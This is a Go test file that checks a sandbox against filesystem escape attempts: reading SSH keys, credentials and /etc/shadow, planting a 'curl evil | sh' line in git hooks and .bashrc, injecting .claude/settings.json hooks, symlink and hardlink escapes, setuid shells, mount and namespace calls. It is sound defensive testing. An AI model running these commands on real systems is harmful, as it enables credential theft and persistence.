package local

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/nemoclave/nemoclave/policy"
)

// Filesystem rows F1–F16 of shared/design/SECURITY-TESTS.md. Each runs real
// programs (sh, cat, ln, mv, truncate, the probe) inside a real sandbox, as
// root and as an unprivileged supervisor.

func TestEscape_F1_ReadSecrets(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		dir, ws := jobDir(t, mode)
		// A fake home with the secrets F1 names, at host paths, for the
		// supervisor and for a user one level down (/home/<user>).
		home := filepath.Join(dir, "home")
		for rel, body := range map[string]string{
			".ssh/id_ed25519": "PRIVATE KEY", ".aws/credentials": "aws_secret_access_key=x",
			".nemoclave/credentials.json": `{"NVIDIA_API_KEY":"` + testCanary + `"}`,
			"alice/.ssh/id_rsa":           "PRIVATE KEY", "alice/.netrc": "password " + testCanary, "alice/notes.txt": "just notes",
		} {
			p := filepath.Join(home, rel)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		chownTree(t, mode, home)
		secrets := []string{"/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/root/.aws/credentials", "~/.ssh/id_rsa",
			home + "/.ssh/id_ed25519", home + "/.aws/credentials", home + "/.nemoclave/credentials.json", home + "/alice/.ssh/id_rsa", home + "/alice/.netrc"}
		script := `for f in ` + strings.Join(secrets, " ") + `; do
  if cat "$f" >/dev/null 2>&1; then echo "READ $f"; else echo "denied $f"; fi
done
cat ` + home + `/alice/notes.txt 2>&1; echo
$PROBE read-file /etc/shadow
$PROBE read-file ` + home + `/.nemoclave/credentials.json
$PROBE read-file ` + home + `/alice/.ssh/id_rsa`
		// First with the default policy (the home is not in the view), then
		// with a policy that grants the whole home read-only: the
		// credential stores inside it are masked either way.
		generous := testPolicy()
		generous.Filesystem.ReadOnly = append(generous.Filesystem.ReadOnly, home)
		for i, p := range []*policy.Policy{testPolicy(), generous} {
			res := run(t, mode, dir, ws, job{Name: sandboxName(t, mode) + strconv.Itoa(i), Argv: []string{"/bin/sh", "-c", script}, Policy: p})
			if res.StartErr != "" {
				t.Fatal(res.StartErr)
			}
			if strings.Contains(res.Output, "READ ") || strings.Contains(res.Output, testCanary) {
				t.Errorf("a secret was readable:\n%s", res.Output)
			}
			expectLines(t, res.Output, "read-file: errno=EACCES", "denied /etc/shadow")
			if i == 0 {
				expectLines(t, res.Output, "read-file: errno=ENOENT")
			} else {
				// The grant itself works: ordinary files stay readable.
				expectLines(t, res.Output, "just notes")
				if strings.Contains(res.Output, "errno=ENOENT") {
					t.Errorf("granted home not mounted:\n%s", res.Output)
				}
			}
		}
	})
}

func TestEscape_F2_WriteOutsideWritableRoots(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		marker := "nemoclave-f2-" + filepath.Base(t.TempDir())
		targets := []string{"/etc/" + marker, "/usr/" + marker, "/root/" + marker, "/" + marker, "/var/tmp/" + marker}
		script := ""
		for _, p := range targets {
			script += `if echo x > ` + p + ` 2>/dev/null; then echo "WROTE ` + p + `"; else echo "denied ` + p + `"; fi
`
		}
		script += `touch /etc/` + marker + ` 2>&1; mkdir /usr/` + marker + ` 2>&1; true`
		out, _ := sh(t, mode, script)
		if strings.Contains(out, "WROTE") {
			t.Errorf("wrote outside the writable roots:\n%s", out)
		}
		expectLines(t, out, "Read-only file system")
		for _, p := range targets {
			if _, err := os.Stat(p); err == nil {
				os.RemoveAll(p)
				t.Errorf("%s appeared on the host", p)
			}
		}
	})
}

// protectedWorkspace prepares a git-like workspace whose hooks, config and
// .bashrc the policy protects.
func protectedWorkspace(t *testing.T, mode, ws string) {
	t.Helper()
	for rel, body := range map[string]string{
		".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n", ".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n",
		".bashrc": "# rc\n", "src/main.go": "package main\n",
	} {
		p := filepath.Join(ws, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	chownTree(t, mode, ws)
}

func protectedPolicy(j *job) {
	p := testPolicy()
	p.Filesystem.Protected = []string{".git/hooks", ".git/config", ".bashrc", ".claude/settings.json"}
	j.Policy = p
}

func assertUnchanged(t *testing.T, ws string) {
	t.Helper()
	for rel, want := range map[string]string{
		".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n", ".git/config": "[core]\n", ".bashrc": "# rc\n",
	} {
		b, err := os.ReadFile(filepath.Join(ws, rel))
		if err != nil || string(b) != want {
			t.Errorf("protected %s changed on the host: %q, %v", rel, b, err)
		}
	}
	if _, err := os.Stat(filepath.Join(ws, ".git/hooks/post-checkout")); err == nil {
		t.Errorf("a new hook was created on the host")
	}
}

func TestEscape_F3_WriteProtectedInWorkspace(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		dir, ws := jobDir(t, mode)
		protectedWorkspace(t, mode, ws)
		j := job{Argv: []string{"/bin/sh", "-c", `cd /workspace
for f in .git/hooks/pre-commit .git/hooks/post-checkout .git/config .bashrc; do
  if echo 'curl evil | sh' >> "$f" 2>/dev/null; then echo "WROTE $f"; else echo "denied $f"; fi
done
rm -f .git/hooks/pre-commit 2>&1
chmod 777 .git/hooks/pre-commit 2>&1
echo ok > src/main.go && echo "workspace writable"`}}
		protectedPolicy(&j)
		res := run(t, mode, dir, ws, j)
		if res.StartErr != "" {
			t.Fatal(res.StartErr)
		}
		if strings.Contains(res.Output, "WROTE") {
			t.Errorf("protected path written:\n%s", res.Output)
		}
		expectLines(t, res.Output, "denied .git/config", "denied .bashrc", "workspace writable")
		assertUnchanged(t, ws)
	})
}

func TestEscape_F4_SymlinkOut(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		dir, ws := jobDir(t, mode)
		outside := filepath.Join(dir, "outside.txt")
		if err := os.WriteFile(outside, []byte("host"), 0o666); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(ws, "pre-made-link")); err != nil {
			t.Fatal(err)
		}
		chownTree(t, mode, ws)
		res := run(t, mode, dir, ws, job{Argv: []string{"/bin/sh", "-c", `cd /workspace
ln -s /etc/hostname etc-link && (echo x > etc-link 2>/dev/null && echo "WROTE etc-link" || echo "denied etc-link")
ln -s ../../.. up && (echo x > up/escape 2>/dev/null && echo "WROTE up" || echo "denied up")
echo x > pre-made-link 2>/dev/null && echo "WROTE pre-made" || echo "denied pre-made"`}})
		if res.StartErr != "" {
			t.Fatal(res.StartErr)
		}
		if strings.Contains(res.Output, "WROTE") {
			t.Errorf("wrote through a symlink:\n%s", res.Output)
		}
		if b, _ := os.ReadFile(outside); string(b) != "host" {
			t.Errorf("host file behind the link changed: %q", b)
		}
		if _, err := os.Stat(filepath.Join(dir, "escape")); err == nil {
			t.Errorf("file created outside the workspace")
		}
	})
}

func TestEscape_F5_HardlinkOut(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		out, ws := sh(t, mode, `ln /etc/passwd /workspace/p 2>&1; ln /usr/bin/env /workspace/e 2>&1; echo done`)
		expectLines(t, out, "Invalid cross-device link", "done")
		if _, err := os.Stat(filepath.Join(ws, "p")); err == nil {
			t.Errorf("hardlink to /etc/passwd created in the workspace")
		}
	})
}

func TestEscape_F6_RenameProtectedParent(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		dir, ws := jobDir(t, mode)
		protectedWorkspace(t, mode, ws)
		j := job{Argv: []string{"/bin/sh", "-c", `cd /workspace
mv .git .git-moved 2>&1 || echo "denied rename .git"
mv .git/hooks .git/hooks-moved 2>&1 || echo "denied rename hooks"
rm -rf .git 2>/dev/null; test -d .git && echo "still .git"
for d in .git-moved/hooks .git/hooks-moved; do test -d $d && (echo x > $d/pre-push 2>/dev/null && echo "WROTE $d")
done; true`}}
		protectedPolicy(&j)
		res := run(t, mode, dir, ws, j)
		if res.StartErr != "" {
			t.Fatal(res.StartErr)
		}
		expectLines(t, res.Output, "denied rename .git", "denied rename hooks", "still .git")
		if strings.Contains(res.Output, "WROTE") {
			t.Errorf("wrote below a renamed protected parent:\n%s", res.Output)
		}
		assertUnchanged(t, ws)
	})
}

func TestEscape_F7_CreateMissingProtectedPath(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		dir, ws := jobDir(t, mode)
		protectedWorkspace(t, mode, ws)
		j := job{Argv: []string{"/bin/sh", "-c", `cd /workspace
mkdir -p .claude 2>&1
(echo '{"hooks":"evil"}' > .claude/settings.json) 2>/dev/null && echo "WROTE settings" || echo "denied settings"
rm -f .claude/settings.json 2>/dev/null; mv .claude .claude2 2>/dev/null && echo "MOVED"
mkdir .claude/settings.json 2>/dev/null && echo "MADE dir"; true`}}
		protectedPolicy(&j)
		res := run(t, mode, dir, ws, j)
		if res.StartErr != "" {
			t.Fatal(res.StartErr)
		}
		expectLines(t, res.Output, "denied settings")
		for _, bad := range []string{"WROTE", "MOVED", "MADE"} {
			if strings.Contains(res.Output, bad) {
				t.Errorf("created a missing protected path (%s):\n%s", bad, res.Output)
			}
		}
		// Delete removed the still-empty placeholders it made.
		if b, err := os.ReadFile(filepath.Join(ws, ".claude/settings.json")); err == nil && len(b) > 0 {
			t.Errorf("protected file has content on the host: %q", b)
		}
		if _, err := os.Stat(filepath.Join(ws, ".claude")); err == nil {
			t.Errorf("placeholder directory .claude left behind after delete")
		}
	})
}

func TestEscape_F8_Mknod(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		out, _ := sh(t, mode, `$PROBE mknod-char /workspace/c; $PROBE mknod-block /tmp/b; mknod /tmp/n c 1 3 2>&1; true`)
		expectLines(t, out, "mknod-char: errno=EPERM", "mknod-block: errno=EPERM", "Operation not permitted")
	})
}

func TestEscape_F9_SetuidShell(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		out, _ := sh(t, mode, `cp /bin/sh /workspace/sush && chmod 4755 /workspace/sush 2>&1
echo "before: $(id -u)"
/workspace/sush -c 'echo "after: $(id -u)"; grep -E "^(NoNewPrivs|CapEff|CapPrm):" /proc/self/status'
if command -v sudo >/dev/null; then sudo -n true 2>&1 && echo "SUDO worked"; fi; true`)
		expectLines(t, out, "NoNewPrivs:\t1", "CapEff:\t0000000000000000", "CapPrm:\t0000000000000000")
		before, after := lineAfter(out, "before: "), lineAfter(out, "after: ")
		if before == "" || before != after {
			t.Errorf("uid changed through a setuid copy: before %q after %q\n%s", before, after, out)
		}
		if strings.Contains(out, "SUDO worked") {
			t.Errorf("sudo worked")
		}
	})
}

func lineAfter(out, prefix string) string {
	for _, l := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(l, prefix); ok {
			return v
		}
	}
	return ""
}

func TestEscape_F10_TruncateReadOnly(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		dir, ws := jobDir(t, mode)
		protectedWorkspace(t, mode, ws)
		j := job{Argv: []string{"/bin/sh", "-c", `for f in /etc/passwd /usr/bin/env /workspace/.git/config /workspace/.bashrc; do
  truncate -s 0 "$f" 2>/dev/null && echo "TRUNCATED $f" || echo "denied $f"; done`}}
		protectedPolicy(&j)
		res := run(t, mode, dir, ws, j)
		if res.StartErr != "" {
			t.Fatal(res.StartErr)
		}
		if strings.Contains(res.Output, "TRUNCATED") {
			t.Errorf("truncated a read-only file:\n%s", res.Output)
		}
		expectLines(t, res.Output, "denied /etc/passwd", "denied /workspace/.bashrc")
		assertUnchanged(t, ws)
	})
}

func TestEscape_F11_Mount(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		out, _ := sh(t, mode, `$PROBE mount-tmpfs; $PROBE remount-root-rw; $PROBE umount-proc
mount -t tmpfs none /tmp 2>&1; umount /proc 2>&1; test -r /proc/self/status && echo "proc still mounted"`)
		expectLines(t, out, "mount-tmpfs: errno=EPERM", "remount-root-rw: errno=EPERM", "umount-proc: errno=EPERM", "proc still mounted")
	})
}

func TestEscape_F12_NewUserNamespace(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		out, _ := sh(t, mode, `$PROBE unshare-user; $PROBE unshare-net; $PROBE clone-newuser; $PROBE setns
unshare -Ur true 2>&1 && echo "UNSHARE worked"; true`)
		expectLines(t, out, "unshare-user: errno=EPERM", "unshare-net: errno=EPERM", "clone-newuser: errno=EPERM", "setns: errno=EPERM")
		if strings.Contains(out, "UNSHARE worked") {
			t.Errorf("unshare -Ur worked:\n%s", out)
		}
	})
}

func TestEscape_F13_ChrootPivotHandle(t *testing.T) {
	modes(t, func(t *testing.T, mode string) {
		out, _ := sh(t, mode, `$PROBE chroot; $PROBE pivot-root; $PROBE open-by-handle-at`)
		expectLines(t, out, "chroot: errno=EPERM", "pivot-root: errno=EPERM", "open-by-handle-at: errno=EPERM")
	})
}
